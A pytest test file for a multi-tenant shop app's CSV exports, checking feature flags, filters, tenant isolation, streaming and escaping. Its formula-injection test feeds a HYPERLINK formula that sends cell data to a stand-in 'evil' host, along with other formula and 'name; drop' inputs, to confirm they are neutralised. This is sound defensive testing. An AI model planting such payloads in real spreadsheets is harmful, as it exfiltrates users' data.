"""CSV exports of the orders and customers lists: flag, filters, streaming, escaping, people."""
from __future__ import annotations

import contextvars
import csv
import datetime as dt
import io
import re

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from extensions import db
from models.control import AuditEvent, utcnow
from services import audit, order_queries
from services.flags import set_override
from services.rollup import local_day
from tenancy.context import get_storage
from tenancy.storage import target_for
from tests.factories import make_tenant, make_user
from tests.portal.helpers import HOSTILE, HX, add_customer, add_order
from tests.querycount import count_queries

UTC = dt.timezone.utc
BOM = b"\xef\xbb\xbf"


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.data[:300]
    assert response.data.startswith(BOM)
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def _export_link(html: bytes) -> str | None:
    match = re.search(rb'href="([^"]+)" download>Export CSV</a>', html)
    return match.group(1).decode().replace("&amp;", "&") if match else None


def _flag_off(tenant) -> None:
    set_override(tenant, "csv_export", False, "not on this account", None, audit.SYSTEM)
    db.session.commit()


def test_flag_off_hides_the_link_and_the_exports_are_404(client, people, backend, isolation):
    add_order(people.a, customer_id=add_customer(people.a, "Ann Lee").id)
    _flag_off(people.a)
    people.alice.sign_in(client)
    slug = people.a.slug
    assert client.get(f"/t/{slug}/orders.csv").status_code == 404
    assert client.get(f"/t/{slug}/customers.csv").status_code == 404
    for page in ("orders", "customers"):
        html = client.get(f"/t/{slug}/{page}").data
        assert b"Ann Lee" in html and b"Export CSV" not in html
    assert db.session.execute(select(AuditEvent).where(AuditEvent.action.like("%.export"))).first() is None


def test_the_link_carries_the_lists_filters(client, people, backend, isolation):
    add_order(people.a, customer_id=add_customer(people.a, "Ann Lee").id, status="paid")
    people.alice.sign_in(client)
    slug = people.a.slug
    page = client.get(f"/t/{slug}/orders", query_string={"q": "ann", "status": "paid", "sort": "total_asc"})
    assert _export_link(page.data) == f"/t/{slug}/orders.csv?q=ann&status=paid&sort=total_asc"
    fragment = client.get(f"/t/{slug}/orders", query_string={"status": "paid"}, headers=HX)
    assert _export_link(fragment.data) == f"/t/{slug}/orders.csv?status=paid"  # htmx keeps it current
    customers = client.get(f"/t/{slug}/customers", query_string={"q": "ann", "sort": "spent"})
    assert _export_link(customers.data) == f"/t/{slug}/customers.csv?q=ann&sort=spent"
    nothing = client.get(f"/t/{slug}/orders", query_string={"status": "failed"})
    assert b"No orders match these filters." in nothing.data and _export_link(nothing.data) is None


@pytest.mark.modes("shared")
def test_the_link_leaves_out_the_page_and_the_export_has_every_page(client, people, backend, isolation):
    for n in range(order_queries.PAGE_SIZE + 2):
        add_order(people.a, total=100 + n)
    people.alice.sign_in(client)
    slug = people.a.slug
    first = client.get(f"/t/{slug}/orders", query_string={"sort": "total_asc"}).data.decode()
    second_url = re.search(r'rel="next" href="([^"]+)"', first).group(1).replace("&amp;", "&")
    second = client.get(second_url)
    assert "after=" in second_url and _export_link(second.data) == f"/t/{slug}/orders.csv?sort=total_asc"
    rows = _rows(client.get(f"/t/{slug}/orders.csv", query_string={"sort": "total_asc"}))
    assert [r[-1] for r in rows[1:]] == [f"{(100 + n) / 100:.2f}" for n in range(order_queries.PAGE_SIZE + 2)]


def test_orders_export_applies_the_filter_and_formats_money_and_dates(client, people, backend, isolation):
    ann = add_customer(people.a, "Ann Lee", "ann@shop.example.com")
    january = dt.datetime(2026, 1, 15, 3, 30, tzinfo=UTC)  # New York: the evening of the 14th
    paid = add_order(people.a, customer_id=ann.id, total=123_456, status="paid", created_at=january,
                     channel="store", method="cash")
    add_order(people.a, customer_id=ann.id, total=999, created_at=january)  # pending: filtered out
    add_order(people.b, total=555, status="paid")  # another tenant's
    people.bob.sign_in(client)  # staff may export
    response = client.get(f"/t/{people.a.slug}/orders.csv", query_string={"status": "paid", "after": "junk"})
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    today = local_day(utcnow(), people.a.timezone).isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="{people.a.slug}-orders-{today}.csv"'
    rows = _rows(response)
    assert rows == [
        ["Order", "Date", "Customer", "Customer email", "Channel", "Payment method", "Payment status",
         "Currency", "Subtotal", "Discount", "Tax", "Total"],
        [str(paid.number), "2026-01-14T22:30:00-05:00", "Ann Lee", "ann@shop.example.com", "store",
         "cash", "paid", "USD", "1234.56", "0.00", "0.00", "1234.56"],
    ]
    event = db.session.execute(select(AuditEvent).where(AuditEvent.action == "order.export")).scalar_one()
    assert event.actor_label == "bob@example.com" and event.tenant_id == people.a.id
    assert event.after == {"filters": {"status": "paid", "sort": "newest"}}


def test_amounts_use_the_currencys_digits(client, backend):
    tenant = make_tenant(currency="IDR")
    make_user(tenant, "siti@example.com", "owner")
    add_order(tenant, total=1_250_000, customer_id=add_customer(tenant, "Budi").id, status="paid")
    client.post(f"/t/{tenant.slug}/login", data={"email": "siti@example.com", "password": "correct horse battery"})
    order = _rows(client.get(f"/t/{tenant.slug}/orders.csv"))[1]
    assert order[7:] == ["IDR", "1250000", "0", "0", "1250000"]
    assert order[1].endswith("+07:00")  # Asia/Jakarta
    customer = _rows(client.get(f"/t/{tenant.slug}/customers.csv"))[1]
    assert customer[:6] == ["Budi", "", "", "1", "1250000", "IDR"]


def test_customers_export_applies_search_and_sort(client, people, backend, isolation):
    few = add_customer(people.a, "Few Orders", "few@example.com", "+62 812 555 0101")
    many = add_customer(people.a, "Many Orders", "many@example.com")
    add_customer(people.a, "Someone Else", "else@other.example.com")
    add_customer(people.b, "Orders of B", "b@example.com")
    for _ in range(2):
        add_order(people.a, customer_id=many.id, total=1_000, status="paid")
    add_order(people.a, customer_id=few.id, total=250)
    people.alice.sign_in(client)
    rows = _rows(client.get(f"/t/{people.a.slug}/customers.csv", query_string={"q": "orders", "sort": "orders"}))
    assert rows[0] == ["Name", "Email", "Phone", "Orders", "Spent", "Currency", "Added", "Last order"]
    assert [r[0] for r in rows[1:]] == ["Many Orders", "Few Orders"]
    assert rows[1][3:6] == ["2", "20.00", "USD"]
    assert rows[2][2] == "'+62 812 555 0101"  # starts with + : escaped like any formula
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d-0[45]:00", rows[2][6])


def test_formula_injection_is_escaped_and_unicode_survives(client, people, backend, isolation):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1", "@SUM(A1:A9)", "-2",
               "=1+1", "Zoë 名前😀", "Plain, with \"quotes\""]
    for name in hostile:
        add_order(people.a, customer_id=add_customer(people.a, name).id)
    people.alice.sign_in(client)
    names = {r[0] for r in _rows(client.get(f"/t/{people.a.slug}/customers.csv"))[1:]}
    assert names == {"'" + hostile[0], "'+1", "'@SUM(A1:A9)", "'-2", "'=1+1", "Zoë 名前😀",
                     "Plain, with \"quotes\""}
    order_names = {r[2] for r in _rows(client.get(f"/t/{people.a.slug}/orders.csv"))[1:]}
    assert order_names == names
    raw = client.get(f"/t/{people.a.slug}/customers.csv").data.decode("utf-8-sig")
    assert not re.search(r'(^|,)"?[=+\-@]', raw, re.MULTILINE)  # no cell starts a formula


def test_charlie_cannot_export_a(client, people, backend, isolation):
    ann = add_customer(people.a, "Ann of A", "ann@example.com")
    add_order(people.a, customer_id=ann.id)
    add_order(people.b, customer_id=add_customer(people.b, "Carl of B").id)
    assert client.get(f"/t/{people.a.slug}/orders.csv").status_code == 302  # anonymous: sign in
    people.charlie.sign_in(client)
    for what in ("orders", "customers"):
        response = client.get(f"/t/{people.a.slug}/{what}.csv")
        assert response.status_code == 302 and "/login" in response.headers["Location"]
    own = client.get(f"/t/{people.b.slug}/orders.csv")
    assert b"Carl of B" in own.data and b"Ann of A" not in own.data
    by_a_customer = _rows(client.get(f"/t/{people.b.slug}/orders.csv", query_string={"customer": str(ann.id)}))
    assert by_a_customer[1:] == []
    assert b"Ann of A" not in client.get(f"/t/{people.b.slug}/customers.csv", query_string={"q": "ann"}).data


def test_bad_filters_get_a_clear_error_and_no_export(client, people, backend, isolation):
    add_order(people.a, customer_id=add_customer(people.a, "Ann Lee").id)
    people.alice.sign_in(client)
    slug = people.a.slug
    refused = client.get(f"/t/{slug}/orders.csv", query_string={"status": "shipped"})
    assert refused.status_code == 422 and b"Unknown payment status" in refused.data
    assert client.get(f"/t/{slug}/orders.csv", query_string={"date_from": "2026-13-01"}).status_code == 422
    assert client.get(f"/t/{slug}/customers.csv", query_string={"sort": "name; drop"}).status_code == 422
    for value in HOSTILE:
        for what, key in (("orders", "q"), ("orders", "customer"), ("orders", "date_to"), ("customers", "q")):
            response = client.get(f"/t/{slug}/{what}.csv", query_string={key: value})
            assert response.status_code in (200, 422), (what, key, value, response.status_code)
            assert b"<script>" not in response.data
    assert db.session.execute(select(AuditEvent).where(AuditEvent.action.like("%.export"))
                              .where(AuditEvent.after["filters"].is_(None))).first() is None


def test_statements_grow_with_batches_not_rows(app, client, people, backend, isolation):
    ann = add_customer(people.a, "Ann Lee")
    for _ in range(3):
        add_order(people.a, customer_id=ann.id)
    people.alice.sign_in(client)
    url = f"/t/{people.a.slug}/orders.csv"
    client.get(url).data  # warm caches (engines, plan)
    app.config["CSV_EXPORT_BATCH"] = 50
    with count_queries() as three_rows:
        assert len(_rows(client.get(url))) == 4
    for _ in range(9):
        add_order(people.a, customer_id=ann.id)
    with count_queries() as twelve_rows:
        assert len(_rows(client.get(url))) == 13
    assert len(twelve_rows) == len(three_rows), twelve_rows.statements
    app.config["CSV_EXPORT_BATCH"] = 4
    with count_queries() as three_batches:
        assert len(_rows(client.get(url))) == 13
    # Two more keyset queries (and, on PostgreSQL, the SET LOCAL of each new transaction).
    assert len(three_batches) - len(twelve_rows) <= 2 * 2, three_batches.statements


def test_no_connection_is_held_between_batches(app, client, people, backend, isolation):
    for n in range(5):
        add_order(people.a, total=100 + n)
    people.alice.sign_in(client)
    app.config["CSV_EXPORT_BATCH"] = 2
    db.session.remove()
    storage = get_storage()
    engine = storage.engine_for(target_for(people.a))
    url = f"/t/{people.a.slug}/orders.csv"

    def download() -> list[bytes]:  # read chunk by chunk, in one Context, as a server would
        response = FlaskClient.open(client, url, buffered=False)
        chunks = []
        for chunk in response.response:
            chunks.append(chunk)
            assert engine.pool.checkedout() == 0, f"a connection is held after chunk {len(chunks)}"
        response.close()
        return chunks

    chunks = contextvars.Context().run(download)
    assert len(chunks) == 1 + 1 + 3  # BOM, header, three batches of at most two orders
    assert len(b"".join(chunks).decode("utf-8-sig").strip().splitlines()) == 6
